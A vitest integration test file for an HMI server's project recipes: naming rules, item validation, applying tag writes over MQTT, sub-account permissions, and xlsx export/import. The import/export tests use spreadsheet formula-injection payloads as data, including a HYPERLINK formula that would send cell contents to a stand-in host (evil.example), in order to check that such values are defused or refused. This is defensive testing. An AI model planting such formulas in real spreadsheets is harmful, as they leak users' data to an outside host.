import {
  deviceTopic,
  ErrorCode,
  Perm,
  RESERVED_RECIPE_NAMES,
  type DeviceCommand,
  type Envelope,
  type ProjectDetail,
  type Recipe,
  type RecipeApplyReply,
  type RecipeImportErrors,
  type RecipeImportReply,
  type RecipeListReply,
  type TemplateDetail,
} from '@hmi/domain';
import ExcelJS from 'exceljs';
import type { MqttClient } from 'mqtt';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { createActiveUser, createSubAccount } from '../../../test/factories.ts';
import type { TestServer } from '../../../test/test-server.ts';
import {
  buildDevice,
  buildTemplate,
  grantData,
  setTemplateLimit,
  startDeviceTestServer,
} from '../device/device-test-factories.ts';
import { connectDevice } from '../ingest/live-data-test-helpers.ts';

/*
 * A project's recipes through HTTP on a real server: names (reserved in any case, 1086), items
 * (1089, tags, values by the settag rules), applying through the settag path with a plain MQTT
 * client as the device (one result per item), locks (1052), sub-accounts, and the xlsx export and
 * import (round trip into another project, formula defusing, hostile files).
 */
let server: TestServer;
let main: Awaited<ReturnType<typeof createActiveUser>>;
let token: string;
let template: TemplateDetail;
const tag = (name: string) => template.tags.find((t) => t.name === name)!.id;
const clients: MqttClient[] = [];

beforeAll(async () => {
  server = await startDeviceTestServer({ SETTAG_TIMEOUT_MS: '600', INGEST_BATCH_MS: '10' });
  main = await createActiveUser(server);
  token = main.tokens.token;
  await setTemplateLimit(server, main.profile.team_id, 100);
  template = await buildTemplate(server, token, {
    tags: [
      { name: 'speed', data_type: 1, rw: 2 },
      { name: 'temp', data_type: 7, rw: 2 },
      { name: 'running', data_type: 0, rw: 0 },
      { name: 'enable', data_type: 0, rw: 2 },
      { name: 'label', data_type: 9, rw: 2 },
      { name: 'counter', data_type: 3, rw: 2 },
    ],
  });
});
afterEach(async () => {
  await Promise.all(clients.splice(0).map((c) => c.endAsync(true).catch(() => undefined)));
});
afterAll(async () => server?.close());

const post = <T = unknown>(path: string, body: unknown, t = token) =>
  server.call<T>('POST', path, { token: t, body });
const get = <T = unknown>(path: string, t = token) => server.call<T>('GET', path, { token: t });

let n = 0;
async function project(deviceIds: number[], t = token): Promise<ProjectDetail> {
  const res = await post<ProjectDetail>('/project/add', { name: `Line ${++n}`, device_ids: deviceIds }, t);
  expect(res.body, 'project add').toMatchObject({ code: 0 });
  return res.body.data;
}
/** A bound, offline device of the template. */
const offlineDevice = (t = token) => buildDevice(server, t, { template_id: template.id });
async function addRecipe(body: Record<string, unknown>, t = token): Promise<Recipe> {
  const res = await post<Recipe>('/project/recipe/add', { name: `R${++n}`, items: [], ...body }, t);
  expect(res.body, 'recipe add').toMatchObject({ code: 0 });
  return res.body.data;
}
const list = async (projectId: number, t = token) =>
  (await get<RecipeListReply>(`/project/recipe/list?project_id=${projectId}`, t)).body.data;

/** An online, synced device of the template answering every command ok (or never); what it received. */
async function onlineDevice(answers = true) {
  const d = await connectDevice(server, token, template.id);
  clients.push(d.client);
  const received: DeviceCommand[] = [];
  d.client.on('message', (topic, payload) => {
    if (topic !== deviceTopic(d.sn, 'cmd')) return;
    const cmd = JSON.parse(payload.toString()) as DeviceCommand;
    received.push(cmd);
    if (!answers) return;
    d.client
      .publishAsync(deviceTopic(d.sn, 'cmd/resp'), JSON.stringify({ id: cmd.id, ok: true }), { qos: 1 })
      .catch(() => undefined);
  });
  await d.goOnlineAndSync();
  return { ...d, received };
}

async function upload<T = unknown>(
  projectId: number | undefined,
  bytes: Buffer,
  name = 'recipes.xlsx',
  t = token,
) {
  const form = new FormData();
  if (projectId !== undefined) form.append('project_id', String(projectId));
  form.append('file', new Blob([bytes]), name);
  const res = await fetch(`${server.url}/v1/project/recipe/import`, {
    method: 'POST',
    headers: { authorization: t },
    body: form,
  });
  return { status: res.status, body: (await res.json()) as Envelope<T> };
}
async function exportOf(projectId: number, t = token) {
  const res = await fetch(`${server.url}/v1/project/recipe/export?project_id=${projectId}`, {
    headers: { authorization: t },
  });
  return {
    status: res.status,
    type: res.headers.get('content-type') ?? '',
    bytes: Buffer.from(await res.arrayBuffer()),
  };
}
/** An xlsx whose first sheet holds these rows, written by exceljs as any spreadsheet program would. */
async function sheet(rows: readonly (readonly ExcelJS.CellValue[])[], name = 'Recipes'): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  const ws = workbook.addWorksheet(name);
  for (const row of rows) ws.addRow([...row]);
  return Buffer.from(await workbook.xlsx.writeBuffer());
}
const HEADER = ['Recipe', 'Description', 'Device', 'Tag', 'Value'];

const reservedRefusal = (word: string) => ({
  code: ErrorCode.E1006_BAD_PARAMETER,
  data: { fields: [{ path: 'name', message: 'validation.recipe.reserved', params: { word } }] },
});

describe('recipes', () => {
  it('adds, lists, edits and deletes; values are stored as a tag write sends them; names unique case-insensitively (1086)', async () => {
    const d = await offlineDevice();
    const p = await project([d.id]);
    const r = await addRecipe({
      project_id: p.id,
      name: 'Summer',
      description: 'PET 1 L',
      items: [
        { device_id: d.id, tag_id: tag('speed'), value: 1200 },
        { device_id: d.id, tag_id: tag('temp'), value: '21.5' },
        { device_id: d.id, tag_id: tag('enable'), value: 1 },
        { device_id: d.id, tag_id: tag('label'), value: '=1+2' },
        { device_id: d.id, tag_id: tag('counter'), value: '18446744073709551615' },
      ],
    });
    expect(r).toMatchObject({ project_id: p.id, name: 'Summer', description: 'PET 1 L', hidden_items: 0 });
    expect(r.items.map((i) => i.value)).toEqual([1200, 21.5, true, '=1+2', '18446744073709551615']);
    expect(
      (await post('/project/recipe/add', { project_id: p.id, name: 'SUMMER', items: [] })).body.code,
    ).toBe(ErrorCode.E1086_NAME_EXISTS);
    const winter = await addRecipe({ project_id: p.id, name: 'Winter' });
    expect((await post('/project/recipe/edit', { id: winter.id, name: ' summer ' })).body.code).toBe(
      ErrorCode.E1086_NAME_EXISTS,
    );
    // The same name in another project is fine.
    await addRecipe({ project_id: (await project([])).id, name: 'Summer' });

    const edited = await post<Recipe>('/project/recipe/edit', {
      id: winter.id,
      description: 'cold',
      items: [{ device_id: d.id, tag_id: tag('speed'), value: 800 }],
    });
    expect(edited.body.data).toMatchObject({ name: 'Winter', description: 'cold', items: [{ value: 800 }] });
    const listed = await list(p.id);
    expect(listed.max).toBe(100);
    expect(listed.list.map((x) => [x.name, x.items.length])).toEqual([
      ['Summer', 5],
      ['Winter', 1],
    ]);
    expect((await post('/project/recipe/delete', { id: winter.id })).body.code).toBe(0);
    expect((await list(p.id)).list.map((x) => x.name)).toEqual(['Summer']);
    expect(
      (await get<ProjectDetail>(`/project/detail?id=${p.id}`)).body.data.updated_at,
    ).toBeGreaterThanOrEqual(r.updated_at);
  });

  it('refuses the reserved names in every case variant, naming the word (add, edit, import)', async () => {
    const p = await project([]);
    const r = await addRecipe({ project_id: p.id, name: 'Base' });
    for (const word of RESERVED_RECIPE_NAMES) {
      const variants = [
        word,
        word.toLowerCase(),
        word[0] + word.slice(1).toLowerCase(),
        ` ${word.toLowerCase()} `,
      ];
      variants.push([...word].map((c, i) => (i % 2 ? c.toLowerCase() : c)).join(''));
      for (const name of variants) {
        expect((await post('/project/recipe/add', { project_id: p.id, name, items: [] })).body).toMatchObject(
          reservedRefusal(word),
        );
        expect((await post('/project/recipe/edit', { id: r.id, name })).body).toMatchObject(
          reservedRefusal(word),
        );
      }
    }
    const imported = await upload<RecipeImportErrors>(p.id, await sheet([HEADER, ['rcpG', '', '', '', '']]));
    expect(imported.body).toMatchObject({
      code: ErrorCode.E1006_BAD_PARAMETER,
      data: {
        rows: [
          {
            row: 2,
            errors: [{ field: 'recipe', key: 'validation.recipe.reserved', params: { word: 'RCPG' } }],
          },
        ],
      },
    });
    // Names that only contain a reserved word are fine.
    await addRecipe({ project_id: p.id, name: 'RCPNO_2' });
    expect((await list(p.id)).list.map((x) => x.name)).toEqual(['Base', 'RCPNO_2']);
  });

  it('takes items of the project’s devices only (1089), tags of the device, writable, with values by the settag rules', async () => {
    const d1 = await offlineDevice();
    const d2 = await offlineDevice();
    const p = await project([d1.id]);
    const add = (items: unknown[]) =>
      post('/project/recipe/add', { project_id: p.id, name: `X${++n}`, items });
    expect((await add([{ device_id: d2.id, tag_id: tag('speed'), value: 1 }])).body).toMatchObject({
      code: ErrorCode.E1089_DEVICE_NOT_IN_PROJECT,
      data: { device_ids: [d2.id] },
    });
    const bad = await add([
      { device_id: d1.id, tag_id: tag('speed'), value: 5 },
      { device_id: d1.id, tag_id: 999_999, value: 1 },
      { device_id: d1.id, tag_id: tag('running'), value: true },
      { device_id: d1.id, tag_id: tag('temp'), value: 'warm' },
      { device_id: d1.id, tag_id: tag('counter'), value: -1 },
      { device_id: d1.id, tag_id: tag('label'), value: false },
    ]);
    expect(bad.body).toMatchObject({
      code: ErrorCode.E1006_BAD_PARAMETER,
      data: {
        fields: [
          { path: 'items.1.tag_id', message: 'validation.recipeItem.tag' },
          { path: 'items.2.tag_id', message: 'validation.recipeItem.readOnly' },
          { path: 'items.3.value', message: 'validation.recipeItem.value', params: { type: 'REAL' } },
          { path: 'items.4.value', message: 'validation.recipeItem.value', params: { type: 'UINT64' } },
          { path: 'items.5.value', message: 'validation.recipeItem.value', params: { type: 'STRING' } },
        ],
      },
    });
    const twice = await add([
      { device_id: d1.id, tag_id: tag('speed'), value: 1 },
      { device_id: d1.id, tag_id: tag('speed'), value: 2 },
    ]);
    expect(twice.body).toMatchObject({ code: ErrorCode.E1006_BAD_PARAMETER });
    expect(JSON.stringify(twice.body.data)).toContain('validation.recipeItem.duplicate');
    const many = Array.from({ length: 501 }, (_, i) => ({ device_id: d1.id, tag_id: 100_000 + i, value: 1 }));
    expect((await add(many)).body.code).toBe(ErrorCode.E1006_BAD_PARAMETER);
    expect((await list(p.id)).list).toEqual([]);
  });
});

describe('applying a recipe', () => {
  it('writes every item through settag and answers one result per item: the offline device’s items fail with 1038, the others are written', async () => {
    const online = await onlineDevice();
    const offline = await offlineDevice();
    const p = await project([online.id, offline.id]);
    const r = await addRecipe({
      project_id: p.id,
      items: [
        { device_id: online.id, tag_id: tag('speed'), value: 100 },
        { device_id: offline.id, tag_id: tag('speed'), value: 200 },
        { device_id: online.id, tag_id: tag('enable'), value: true },
        { device_id: offline.id, tag_id: tag('temp'), value: 2.5 },
        { device_id: online.id, tag_id: tag('counter'), value: '18446744073709551615' },
      ],
    });
    const res = await post<RecipeApplyReply>('/project/recipe/apply', { id: r.id });
    expect(res.body).toMatchObject({ code: 0, data: { recipe_id: r.id, written: 3, failed: 2 } });
    expect(res.body.data.results).toEqual([
      { device_id: online.id, tag_id: tag('speed'), ok: true, value: 100 },
      {
        device_id: offline.id,
        tag_id: tag('speed'),
        ok: false,
        code: ErrorCode.E1038_DEVICE_OFFLINE,
        value: 200,
      },
      { device_id: online.id, tag_id: tag('enable'), ok: true, value: true },
      {
        device_id: offline.id,
        tag_id: tag('temp'),
        ok: false,
        code: ErrorCode.E1038_DEVICE_OFFLINE,
        value: 2.5,
      },
      { device_id: online.id, tag_id: tag('counter'), ok: true, value: '18446744073709551615' },
    ]);
    // In the recipe's order, on the wire as settag sends them.
    expect(online.received.map((c) => (c.op === 'settag' ? [c.args.tagId, c.args.value] : null))).toEqual([
      [tag('speed'), 100],
      [tag('enable'), true],
      [tag('counter'), '18446744073709551615'],
    ]);
    const log = await get<{ total: number }>(`/device/settag/log?id=${online.id}`);
    expect(log.body.data.total).toBe(3);
  });

  it('a device that does not answer (2003) gets no further items: they fail with 2003 unsent', async () => {
    const silent = await onlineDevice(false);
    const p = await project([silent.id]);
    const r = await addRecipe({
      project_id: p.id,
      items: ['speed', 'temp', 'enable'].map((name) => ({
        device_id: silent.id,
        tag_id: tag(name),
        value: 1,
      })),
    });
    const res = await post<RecipeApplyReply>('/project/recipe/apply', { id: r.id });
    expect(res.body.data.results.map((x) => [x.ok, x.code])).toEqual([
      [false, ErrorCode.E2003_NETWORK],
      [false, ErrorCode.E2003_NETWORK],
      [false, ErrorCode.E2003_NETWORK],
    ]);
    expect(silent.received).toHaveLength(1);
  });

  it('an item whose device left the project is 1089 and not sent', async () => {
    const d1 = await offlineDevice();
    const d2 = await offlineDevice();
    const p = await project([d1.id, d2.id]);
    const r = await addRecipe({
      project_id: p.id,
      items: [{ device_id: d2.id, tag_id: tag('speed'), value: 1 }],
    });
    expect((await post('/project/devices', { id: p.id, device_ids: [d1.id] })).body.code).toBe(0);
    const res = await post<RecipeApplyReply>('/project/recipe/apply', { id: r.id });
    expect(res.body.data.results).toEqual([
      {
        device_id: d2.id,
        tag_id: tag('speed'),
        ok: false,
        code: ErrorCode.E1089_DEVICE_NOT_IN_PROJECT,
        value: 1,
      },
    ]);
  });

  it('needs device edit 4 or hmi 6 besides view 39 (1002); per device the data scope (1003)', async () => {
    const d1 = await offlineDevice();
    const d2 = await offlineDevice();
    const p = await project([d1.id, d2.id]);
    const r = await addRecipe({
      project_id: p.id,
      items: [
        { device_id: d1.id, tag_id: tag('speed'), value: 1 },
        { device_id: d2.id, tag_id: tag('speed'), value: 2 },
      ],
    });
    const viewer = await createSubAccount(server, main, {
      permissions: [Perm.ProjectView],
      deviceIds: [d1.id],
    });
    await grantData(server, viewer.roleId, { projectIds: [p.id] });
    expect((await post('/project/recipe/apply', { id: r.id }, viewer.tokens.token)).body.code).toBe(
      ErrorCode.E1002_PERMISSION_DENIED,
    );
    const operator = await createSubAccount(server, main, {
      permissions: [Perm.ProjectView, Perm.DeviceHmi],
      deviceIds: [d1.id],
    });
    await grantData(server, operator.roleId, { projectIds: [p.id] });
    const res = await post<RecipeApplyReply>('/project/recipe/apply', { id: r.id }, operator.tokens.token);
    expect(res.body.data.results.map((x) => x.code)).toEqual([
      ErrorCode.E1038_DEVICE_OFFLINE,
      ErrorCode.E1003_NO_DATA,
    ]);
    const other = await createActiveUser(server);
    expect((await post('/project/recipe/apply', { id: r.id }, other.tokens.token)).body.code).toBe(
      ErrorCode.E1003_NO_DATA,
    );
  });

  it('a locked project (1052) refuses changes, the import and applying; it still lists and exports', async () => {
    const owner = await createActiveUser(server);
    const t = owner.tokens.token;
    await setTemplateLimit(server, owner.profile.team_id, 2);
    const older = await project([], t);
    await project([], t);
    const r = await addRecipe({ project_id: older.id, name: 'Kept' }, t);
    await setTemplateLimit(server, owner.profile.team_id, 1);
    const locked = ErrorCode.E1052_TEMPLATE_LOCKED;
    expect(
      (await post('/project/recipe/add', { project_id: older.id, name: 'New', items: [] }, t)).body.code,
    ).toBe(locked);
    expect((await post('/project/recipe/edit', { id: r.id, description: 'x' }, t)).body.code).toBe(locked);
    expect((await post('/project/recipe/delete', { id: r.id }, t)).body.code).toBe(locked);
    expect((await post('/project/recipe/apply', { id: r.id }, t)).body.code).toBe(locked);
    expect(
      (await upload(older.id, await sheet([HEADER, ['Kept', 'x', '', '', '']]), 'r.xlsx', t)).body.code,
    ).toBe(locked);
    expect((await list(older.id, t)).list.map((x) => x.name)).toEqual(['Kept']);
    expect((await exportOf(older.id, t)).status).toBe(200);
  });
});

describe('recipes of a sub-account', () => {
  it('shows and writes only items on devices in its data permissions; the others stay (hidden_items)', async () => {
    const d1 = await offlineDevice();
    const d2 = await offlineDevice();
    const p = await project([d1.id, d2.id]);
    const r = await addRecipe({
      project_id: p.id,
      items: [
        { device_id: d1.id, tag_id: tag('speed'), value: 1 },
        { device_id: d2.id, tag_id: tag('speed'), value: 2 },
      ],
    });
    const sub = await createSubAccount(server, main, {
      permissions: [Perm.ProjectView, Perm.ProjectEdit],
      deviceIds: [d1.id],
    });
    await grantData(server, sub.roleId, { projectIds: [p.id] });
    const st = sub.tokens.token;
    const seen = (await list(p.id, st)).list[0]!;
    expect(seen).toMatchObject({ hidden_items: 1, items: [{ device_id: d1.id, value: 1 }] });
    const edited = await post<Recipe>(
      '/project/recipe/edit',
      { id: r.id, items: [{ device_id: d1.id, tag_id: tag('temp'), value: 3 }] },
      st,
    );
    expect(edited.body.data).toMatchObject({
      hidden_items: 1,
      items: [{ device_id: d1.id, tag_id: tag('temp') }],
    });
    expect((await list(p.id)).list[0]!.items).toEqual([
      { device_id: d1.id, tag_id: tag('temp'), value: 3 },
      { device_id: d2.id, tag_id: tag('speed'), value: 2 },
    ]);
    const wider = await post(
      '/project/recipe/add',
      { project_id: p.id, name: 'Wide', items: [{ device_id: d2.id, tag_id: tag('speed'), value: 1 }] },
      st,
    );
    expect(wider.body.code).toBe(ErrorCode.E1003_NO_DATA);
    const rows = await readSheet((await exportOf(p.id, st)).bytes);
    expect(rows.filter((row) => row[2] === d2.name)).toEqual([]);
  });
});

/** Every row of a workbook's first sheet as cell values (null: no cell; a formula cell as its object). */
async function readSheet(bytes: Buffer): Promise<ExcelJS.CellValue[][]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  const rows: ExcelJS.CellValue[][] = [];
  workbook.worksheets[0]!.eachRow((row) => {
    const values = row.values as ExcelJS.CellValue[];
    rows.push(Array.from({ length: HEADER.length }, (_, i) => values[i + 1] ?? null));
  });
  return rows;
}

describe('recipe export and import (xlsx)', () => {
  it('an export imports into another project unchanged; text that looks like a formula is written as text', async () => {
    const d1 = await offlineDevice();
    const d2 = await offlineDevice();
    const source = await project([d1.id, d2.id]);
    const items = [
      { device_id: d1.id, tag_id: tag('speed'), value: 1200 },
      { device_id: d1.id, tag_id: tag('label'), value: '=HYPERLINK("https://evil.example/?"&A1,"open")' },
      { device_id: d2.id, tag_id: tag('label'), value: '  -5 with spaces ' },
      { device_id: d2.id, tag_id: tag('temp'), value: 1.5 },
      { device_id: d2.id, tag_id: tag('enable'), value: false },
      { device_id: d2.id, tag_id: tag('counter'), value: '18446744073709551615' },
    ];
    await addRecipe({ project_id: source.id, name: 'Bottles', description: 'two\nlines', items });
    await addRecipe({ project_id: source.id, name: '@cans' });
    const file = await exportOf(source.id);
    expect(file.status).toBe(200);
    expect(file.type).toContain('spreadsheetml');
    const rows = await readSheet(file.bytes);
    expect(rows[0]).toEqual(HEADER);
    expect(rows.flat().some((v) => typeof v === 'object' && v !== null && 'formula' in v)).toBe(false);
    const bottles = rows.filter((row) => row[0] === 'Bottles');
    expect(bottles[0]).toEqual(['Bottles', 'two\nlines', d1.name, 'speed', 1200]);
    expect(bottles[1]).toEqual([
      'Bottles',
      null,
      d1.name,
      'label',
      `'=HYPERLINK("https://evil.example/?"&A1,"open")`,
    ]);
    expect(bottles.slice(2).map((row) => row[4])).toEqual([
      '  -5 with spaces ',
      1.5,
      false,
      '18446744073709551615',
    ]);
    // A recipe without items is one row; its name starts like a formula and is defused too.
    expect(rows.filter((row) => row[0] === "'@cans")).toEqual([["'@cans", null, null, null, null]]);

    const target = await project([d1.id, d2.id]);
    const res = await upload<RecipeImportReply>(target.id, file.bytes, 'from-source.xlsx');
    expect(res.body).toMatchObject({ code: 0, data: { created: 2, updated: 0, items: 6 } });
    const strip = (l: RecipeListReply) =>
      l.list.map((r) => ({ name: r.name, description: r.description, items: r.items }));
    expect(strip(await list(target.id))).toEqual(strip(await list(source.id)));
    // Importing again replaces what has the same name.
    expect((await upload<RecipeImportReply>(target.id, file.bytes)).body.data).toEqual({
      created: 0,
      updated: 2,
      items: 6,
    });
    expect((await list(target.id)).list).toHaveLength(2);
  });

  it('reads values by the tag’s type, devices by name in any case; bad rows are listed and nothing is imported', async () => {
    const d = await offlineDevice();
    const p = await project([d.id]);
    const ok = await upload<RecipeImportReply>(
      p.id,
      await sheet([
        HEADER,
        ['Mixed', 'from a hand-made sheet', d.name.toUpperCase(), 'speed', '12'],
        ['Mixed', '', d.name, 'enable', 'TRUE'],
        ['Mixed', '', d.name, 'label', 42],
        ['Empty', '', '', '', ''],
      ]),
    );
    expect(ok.body).toMatchObject({ code: 0, data: { created: 2, items: 3 } });
    expect((await list(p.id)).list.find((r) => r.name === 'Mixed')!.items.map((i) => i.value)).toEqual([
      12,
      true,
      '42',
    ]);
    const bad = await upload<RecipeImportErrors>(
      p.id,
      await sheet([
        HEADER,
        ['Fine', '', d.name, 'speed', 1],
        ['Fine', '', 'Nobody', 'speed', 1],
        ['Fine', '', d.name, 'nothing', 1],
        ['Fine', '', d.name, 'speed', 70000],
        ['Fine', '', d.name, 'running', 1],
        ['Fine', '', d.name, 'speed', 2],
      ]),
    );
    expect(bad.body).toMatchObject({ code: ErrorCode.E1006_BAD_PARAMETER });
    expect(bad.body.data.rows).toEqual([
      {
        row: 3,
        errors: [{ field: 'device', key: 'validation.recipeImport.device', params: { device: 'Nobody' } }],
      },
      {
        row: 4,
        errors: [
          { field: 'tag', key: 'validation.recipeImport.tag', params: { device: d.name, tag: 'nothing' } },
        ],
      },
      {
        row: 5,
        errors: [
          {
            field: 'value',
            key: 'validation.recipeItem.value',
            params: { type: 'UINT16', min: '0', max: '65535' },
          },
        ],
      },
      { row: 6, errors: [{ field: 'tag', key: 'validation.recipeItem.readOnly' }] },
      { row: 7, errors: [{ field: 'tag', key: 'validation.recipeItem.duplicate' }] },
    ]);
    expect((await list(p.id)).list.map((r) => r.name)).toEqual(['Empty', 'Mixed']);
  });

  it('refuses hostile and wrong files with a clear code: formula cells, too many rows, another sheet, not a workbook', async () => {
    const d = await offlineDevice();
    const p = await project([d.id]);
    const refused = async (bytes: Buffer, key: string, params?: Record<string, unknown>, name?: string) => {
      const res = await upload<RecipeImportErrors>(p.id, bytes, name);
      expect(res.body, key).toMatchObject({
        code: ErrorCode.E1006_BAD_PARAMETER,
        data: { rows: [], errors: [{ field: 'file', key, ...(params ? { params } : {}) }] },
      });
      return res;
    };
    await refused(
      await sheet([HEADER, ['F', '', d.name, 'speed', { formula: '1+2', result: 3 }]]),
      'validation.recipeImport.formula',
      { cell: 'E2' },
    );
    await refused(
      await sheet([
        HEADER,
        [{ formula: 'HYPERLINK("https://evil.example","x")', result: 'x' }, '', d.name, 'speed', 1],
      ]),
      'validation.recipeImport.formula',
      { cell: 'A2' },
    );
    const rows = Array.from({ length: 2001 }, (_, i) => ['Big', '', d.name, 'speed', i % 100]);
    await refused(await sheet([HEADER, ...rows]), 'validation.recipeImport.tooManyRows', { max: 2000 });
    const huge = Array.from({ length: 6000 }, (_, i) => [`Big${i}`, 'x', d.name, 'speed', 1]);
    await refused(await sheet([HEADER, ...huge]), 'validation.recipeImport.tooManyRows', { max: 2000 });
    // An alarm rule sheet: its Tag and Value columns are not enough.
    await refused(
      await sheet(
        [
          ['Alarm name', 'Level', 'Tag', 'Alarm type', 'Value'],
          ['hot', 'Minor', 'speed', 'High', 1],
        ],
        'Alarm rules',
      ),
      'validation.recipeImport.missingColumns',
      { columns: 'Recipe, Device' },
    );
    await refused(Buffer.from('Recipe,Device\nA,B\n'), 'validation.alarmImport.notWorkbook');
    await refused(
      Buffer.from('Recipe,Device\nA,B\n'),
      'validation.importFile.type',
      undefined,
      'recipes.csv',
    );
    await refused(await sheet([HEADER]), 'validation.recipeImport.empty');
    const noProject = await upload(undefined, await sheet([HEADER]));
    expect(noProject.body).toMatchObject({
      code: ErrorCode.E1006_BAD_PARAMETER,
      data: { errors: [{ field: 'project_id' }] },
    });
    expect((await list(p.id)).list).toEqual([]);
  });
});
